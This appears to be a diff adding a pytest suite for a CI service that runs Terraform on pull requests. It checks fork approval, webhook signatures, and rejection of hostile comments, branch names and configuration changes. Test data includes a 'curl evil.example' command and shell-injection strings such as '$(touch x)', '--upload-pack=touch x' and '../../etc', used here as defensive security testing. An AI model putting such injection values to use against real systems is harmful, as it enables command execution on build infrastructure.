@@ -1,0 +1,357 @@
+"""What pull requests, comments and pushes start, and what they must never start."""
+
+from __future__ import annotations
+
+import sys
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+
+from iac_ci_common import keys
+from iac_ci_common.errors import PortFailed, SignatureRefused
+from iac_ci_common.locations import parse_location
+from iac_ci_common.reporting import CommitState
+from iac_ci_common.testing.code_host import ENGINE
+from iac_ci_common.vcs.provider import ChangedFile, ChangeKind
+
+sys.path.insert(0, str(Path(__file__).parent))
+from hosted import CONFIGURATION, HEAD, NEXT, REPOSITORY, STRANGER, WRITER, Hosted
+
+
+@pytest.fixture
+def hosted():
+    return Hosted()
+
+
+def test_a_pull_request_starts_what_the_base_branch_says(hosted):
+    status, content = hosted.pull_request()
+    assert (status, content["received"]) == (202, True)
+    (stored,) = hosted.jobs
+    job = stored.job
+    assert (job.flow_label, job.commit_hash, job.pr_number, job.username) == ("plan", HEAD, 7, "ann")
+    assert (job.git_repo, job.git_token_location) == (f"{REPOSITORY}.git", "ssm:/iac-ci/jobs/tokens/acme")
+    assert job.orders[0].env_vars["IACCI_PR_NUMBER"] == "7"
+    assert stored.source == "github.com/acme/infra"
+    assert hosted.watchdogs.started == [(stored.run_id, "0000")]
+    assert hosted.notice is None
+
+
+def test_what_touches_no_path_starts_nothing_and_says_nothing(hosted):
+    hosted.host.changes[7] = (ChangedFile("README.md", ChangeKind.MODIFIED),)
+    assert hosted.pull_request().status == 202
+    assert (hosted.jobs, hosted.notice, hosted.host.statuses) == ([], None, [])
+
+
+def test_a_file_that_was_moved_away_counts(hosted):
+    hosted.host.changes[7] = (ChangedFile("old/main.tf", ChangeKind.RENAMED, "infra/main.tf"),)
+    hosted.pull_request()
+    assert len(hosted.jobs) == 1
+
+
+def test_one_intent_runs_once_through_any_number_of_deliveries(hosted):
+    hosted.pull_request("opened")
+    hosted.pull_request("synchronize")
+    hosted.pull_request("ready_for_review")
+    assert len(hosted.jobs) == 1
+    comment = hosted.host.write(7, WRITER, "/iac-ci plan")
+    payload = {
+        "action": "created",
+        "issue": {"number": 7, "pull_request": {}},
+        "comment": {"id": int(comment.id), "body": comment.body},
+        "sender": {"id": 5, "login": "ann"},
+    }
+    hosted.send("issue_comment", payload)
+    hosted.send("issue_comment", payload)
+    assert len(hosted.jobs) == 2
+
+
+def test_a_repeat_after_hours_is_a_duplicate_and_nothing_more(hosted):
+    hosted.pull_request()
+    hosted.clock.advance(3 * 3600)
+    started = len(hosted.preparations.started)
+    hosted.pull_request("reopened")
+    assert len(hosted.preparations.started) == started
+
+
+def test_the_same_delivery_is_received_once(hosted):
+    hosted.pull_request()
+    again = hosted.deliver(hosted.last)
+    assert (again.status, again.content["received"]) == (200, False)
+    forged_id = replace(hosted.last, headers={**hosted.last.headers, "x-github-delivery": "another"})
+    assert hosted.deliver(forged_id).content["received"] is False
+    assert len(hosted.preparations.triggered) == 1
+
+
+def test_a_delivery_that_could_not_be_handed_on_is_taken_in_when_it_comes_again(hosted, monkeypatch):
+    def fail(trigger_id):
+        raise PortFailed("no", retry_is_safe=True)
+
+    with monkeypatch.context() as broken:
+        broken.setattr(hosted.preparations, "trigger", fail)
+        with pytest.raises(PortFailed):
+            hosted.pull_request()
+    assert hosted.deliver(hosted.last).status == 202
+    assert len(hosted.jobs) == 1
+
+
+def test_a_leg_that_died_after_the_ledger_goes_on_under_the_same_run(hosted, monkeypatch):
+    def fail(*arguments):
+        raise PortFailed("no", retry_is_safe=True)
+
+    with monkeypatch.context() as broken:
+        broken.setattr(hosted.watchdogs, "start", fail)
+        with pytest.raises(PortFailed):
+            hosted.pull_request()
+    hosted.triggering.work(hosted.preparations.triggered[0])
+    (stored,) = hosted.jobs
+    ledger = hosted.ledgers.read(keys.pull_request_ledger("github.com/acme/infra", 7))
+    assert [run.run_id for run in ledger.runs] == [stored.run_id]
+
+
+def test_a_newer_commit_supersedes_an_older_run(hosted, monkeypatch):
+    asked = []
+    monkeypatch.setattr(hosted.runs, "request_cancel", lambda run_id, reason: asked.append((run_id, reason)))
+    hosted.pull_request()
+    hosted.change(head_sha=NEXT)
+    hosted.pull_request("synchronize")
+    first, second = hosted.jobs
+    assert [stored.job.commit_hash for stored in (first, second)] == [HEAD, NEXT]
+    assert asked == [(first.run_id, f"superseded by commit {NEXT[:12]}")]
+    assert hosted.objects.exists(keys.trigger(first.run_id))
+    ledger = hosted.ledgers.read(second.ledger)
+    assert [bool(run.cancel_reason) for run in ledger.runs] == [True, False]
+
+
+def test_an_older_event_that_comes_late_is_about_the_newest_commit(hosted):
+    payload = {"action": "synchronize", "pull_request": {"number": 7, "head": {"sha": "d" * 40}},
+               "sender": {"id": 5, "login": "ann"}}  # fmt: skip
+    hosted.send("pull_request", payload)
+    assert [stored.job.commit_hash for stored in hosted.jobs] == [HEAD]
+
+
+@pytest.mark.parametrize("change", [{"is_fork": True}, {"author": STRANGER}, {"is_fork": True, "author": STRANGER}])
+def test_an_untrusted_pull_request_runs_nothing_until_its_very_commit_is_approved(hosted, change):
+    hosted.change(**change)
+    hosted.pull_request()
+    assert hosted.jobs == []
+    assert f"/iac-ci approve {HEAD}" in hosted.notice
+    assert hosted.host.statuses[-1].state is CommitState.PENDING
+    hosted.comment("/iac-ci plan")
+    hosted.comment(f"/iac-ci approve {HEAD}", STRANGER)
+    hosted.comment(f"/iac-ci approve {NEXT}")
+    hosted.comment(f"/iac-ci approve {HEAD[:12]}")
+    assert hosted.jobs == []
+    hosted.comment(f"/iac-ci approve {HEAD}")
+    assert [stored.job.commit_hash for stored in hosted.jobs] == [HEAD]
+    assert hosted.host.statuses[-1].state is CommitState.SUCCESS
+    hosted.comment("/iac-ci plan")
+    assert len(hosted.jobs) == 2
+
+
+def test_a_new_push_revokes_the_approval(hosted):
+    hosted.change(is_fork=True)
+    hosted.comment(f"/iac-ci approve {HEAD}")
+    hosted.change(head_sha=NEXT)
+    hosted.pull_request("synchronize")
+    hosted.comment("/iac-ci plan")
+    assert [stored.job.commit_hash for stored in hosted.jobs] == [HEAD]
+    assert f"/iac-ci approve {NEXT}" in hosted.notice
+
+
+@pytest.mark.parametrize(
+    ("text", "author", "edited"),
+    [
+        ("/iac-ci apply", STRANGER, False),
+        ("/iac-ci apply", WRITER, True),
+        ("> /iac-ci apply", WRITER, False),
+        ("```\n/iac-ci apply\n```", WRITER, False),
+        ("/iac-ci apply", ENGINE, False),
+        ("<!-- iac-ci:notice -->\n/iac-ci apply", WRITER, False),
+        ("/iac-ci apply $(touch x)", WRITER, False),
+        ("/iac-ci apply ../../etc", WRITER, False),
+        ("/iac-ci apply nowhere", WRITER, False),
+    ],
+)
+def test_such_a_comment_starts_nothing(hosted, text, author, edited):
+    hosted.comment(text, author, edited=edited)
+    assert hosted.jobs == []
+
+
+def test_a_comment_that_was_deleted_or_changed_meanwhile_is_not_followed(hosted):
+    hosted.comment("/iac-ci plan")
+    assert len(hosted.jobs) == 1
+    payload = {"action": "created", "issue": {"number": 7, "pull_request": {}},
+               "comment": {"id": 99, "body": "/iac-ci apply"}, "sender": {"id": 5, "login": "ann"}}  # fmt: skip
+    hosted.send("issue_comment", payload)
+    comment = hosted.host.write(7, WRITER, "never mind")
+    payload["comment"] = {"id": int(comment.id), "body": "/iac-ci apply"}
+    hosted.send("issue_comment", payload)
+    assert len(hosted.jobs) == 1
+
+
+def test_a_target_is_one_entry_of_the_matrix(hosted):
+    hosted.comment("/iac-ci apply app")
+    (stored,) = hosted.jobs
+    assert [order.order_name for order in stored.job.orders] == ["apply-app"]
+    hosted.comment("/iac-ci apply nowhere")
+    assert "nowhere" in hosted.notice
+
+
+def test_help_cancel_and_unlock_answer(hosted, monkeypatch):
+    asked = []
+    monkeypatch.setattr(hosted.runs, "request_cancel", lambda run_id, reason: asked.append(reason))
+    hosted.pull_request()
+    hosted.comment("/iac-ci help")
+    assert "rerun\\-failed" in hosted.notice
+    hosted.comment("/iac-ci unlock")
+    assert "looked at again" in hosted.notice
+    hosted.comment("/iac-ci cancel")
+    assert asked == ["cancelled by ann"]
+    hosted.comment("/iac-ci cancel")
+    assert "no run" in hosted.notice
+    assert len([comment for comment in hosted.host.comments[7] if comment.author == ENGINE]) == 1
+
+
+def test_a_change_of_the_configuration_is_shown_and_not_obeyed(hosted):
+    evil = CONFIGURATION.replace(b"terraform plan", b"curl evil.example")
+    hosted.host.files[".iac-ci.yml", HEAD] = evil
+    hosted.host.changes[7] += (ChangedFile(".iac-ci.yml", ChangeKind.MODIFIED),)
+    hosted.pull_request()
+    assert hosted.jobs[0].job.orders[0].cmds == ["terraform plan"]
+    assert "counts once it is merged" in hosted.notice
+    hosted.host.files[".iac-ci.yml", HEAD] = b"version: 2\n"
+    hosted.change(head_sha=HEAD)
+    hosted.pull_request("reopened")
+    assert "could not be read" in hosted.notice
+
+
+def test_a_configuration_with_problems_is_a_failure_that_everybody_sees(hosted):
+    hosted.host.files[".iac-ci.yml", "main"] = b"version: 1\njobs:\n  plan:\n    on: {command: plan}\n    order: []\n"
+    hosted.pull_request()
+    assert hosted.jobs == []
+    assert "line 5" in hosted.notice
+    assert hosted.host.statuses[-1].state is CommitState.FAILURE
+
+
+def test_what_the_stack_does_not_allow_could_not_start_and_says_why(hosted):
+    there = CONFIGURATION.replace(b"ssm:/iac-ci/jobs/one", b"ssm:/somebody/elses")
+    hosted.host.files[".iac-ci.yml", "main"] = there
+    hosted.pull_request()
+    assert hosted.jobs == []
+    assert "could not start" in hosted.notice
+    assert hosted.host.statuses[-1].context == "iac-ci/plan"
+    assert hosted.host.statuses[-1].state is CommitState.FAILURE
+
+
+def test_no_order_of_a_repository_reads_the_code_hosts_tokens(hosted):
+    hosted.host.files[".iac-ci.yml", "main"] = CONFIGURATION.replace(b"jobs/one", b"jobs/tokens/acme")
+    hosted.pull_request()
+    assert hosted.jobs == []
+    assert "could not start" in hosted.notice
+
+
+def test_without_a_configuration_a_command_is_answered_and_an_event_is_quiet(hosted):
+    hosted.host.files.clear()
+    hosted.pull_request()
+    assert hosted.notice is None
+    hosted.comment("/iac-ci plan")
+    assert "has no" in hosted.notice
+
+
+def test_a_closed_pull_request_starts_nothing(hosted):
+    assert hosted.pull_request("closed").status == 200
+    hosted.change(is_open=False)
+    hosted.comment("/iac-ci apply")
+    hosted.pull_request("synchronize")
+    assert hosted.jobs == []
+    assert "closed" in hosted.notice
+
+
+def test_a_push_runs_once_for_a_commit_and_again_when_the_branch_comes_back(hosted):
+    for sha in (HEAD, NEXT):
+        hosted.host.files[".iac-ci.yml", sha] = CONFIGURATION
+    for sha in (HEAD, HEAD, NEXT, HEAD):
+        hosted.push(sha=sha)
+    assert [stored.job.commit_hash for stored in hosted.jobs] == [HEAD, NEXT, HEAD]
+    assert {stored.job.pr_number for stored in hosted.jobs} == {None}
+    assert all(stored.job.commit_status for stored in hosted.jobs)
+    hosted.host.files[".iac-ci.yml", "d" * 40] = CONFIGURATION
+    hosted.push("other", "d" * 40)
+    assert len(hosted.jobs) == 3
+
+
+@pytest.mark.parametrize(
+    "options",
+    [
+        {"secret": "another"},
+        {"secret": ""},
+        {"headers": {"x-hub-signature-256": None}},
+        {"headers": {"x-hub-signature-256": None, "x-hub-signature": "sha1=" + "0" * 40}},
+        {"headers": {"x-hub-signature-256": "sha256=" + "0" * 63}},
+    ],
+)
+def test_what_is_not_proven_is_refused_and_stored_nowhere(hosted, options):
+    with pytest.raises(SignatureRefused):
+        hosted.pull_request(**options)
+    assert hosted.untouched
+
+
+@pytest.mark.parametrize(
+    "repository",
+    ["https://github.com/acme/infra-two", "https://github.com/evil/infra", "https://evil.example/acme/infra", None, 5],
+)
+def test_another_repository_is_refused_though_it_is_signed_with_ours(hosted, repository):
+    payload = {"repository": {"html_url": repository}, "action": "opened", "sender": {"id": 5, "login": "ann"},
+               "pull_request": {"number": 7, "head": {"sha": HEAD}}}  # fmt: skip
+    try:
+        received = hosted.send("pull_request", payload)
+    except SignatureRefused:
+        received = None
+    assert received is None or received.status == 200
+    assert hosted.untouched
+
+
+def test_two_spellings_are_one_repository_and_a_second_secret_counts_while_one_replaces_the_other(hosted):
+    hosted.secrets.values[parse_location("ssm:/iac-ci/iac-ci/webhook-secret-next")] = "the next"
+    hosted.send(
+        "pull_request",
+        {"repository": {"html_url": "https://GitHub.com/ACME/Infra"}, "action": "opened",
+         "pull_request": {"number": 7, "head": {"sha": HEAD}}, "sender": {"id": 5, "login": "ann"}},
+        secret="the next",
+    )  # fmt: skip
+    assert len(hosted.jobs) == 1
+
+
+def test_a_ping_of_a_whole_organisation_is_answered(hosted):
+    received = hosted.send("ping", {"repository": None, "zen": "x"})
+    assert (received.status, "pong" in received.content["reason"]) == (200, True)
+
+
+def test_a_repository_taken_off_the_list_starts_nothing_more(hosted):
+    hosted.pull_request()
+    hosted.secrets.values[parse_location("ssm:/iac-ci/iac-ci/connections")] = "[]"
+    hosted.clock.advance(301)
+    with pytest.raises(SignatureRefused):
+        hosted.pull_request("synchronize")
+
+
+@pytest.mark.parametrize("branch", ["$(touch x)", "--upload-pack=touch x", "a`b`", "\N{RIGHT-TO-LEFT OVERRIDE}x"])
+def test_a_hostile_branch_reaches_commands_as_a_variable_and_nowhere_else(hosted, branch):
+    hosted.change(head_branch=branch)
+    hosted.pull_request()
+    (stored,) = hosted.jobs
+    order = stored.job.orders[0]
+    assert order.env_vars["IACCI_BRANCH"] == branch
+    assert branch not in " ".join(order.cmds) + str(stored.job.git_repo) + str(order.order_name)
+
+
+def test_who_cannot_be_told_is_no_reason_to_start_again(hosted, monkeypatch):
+    def fail(*arguments, **named):
+        raise PortFailed("HTTP 403")
+
+    hosted.change(is_fork=True)
+    monkeypatch.setattr(hosted.host, "set_status", fail)
+    hosted.pull_request()
+    assert "approve" in hosted.notice
+    assert any(level == "error" for level, _, _ in hosted.notes.lines)
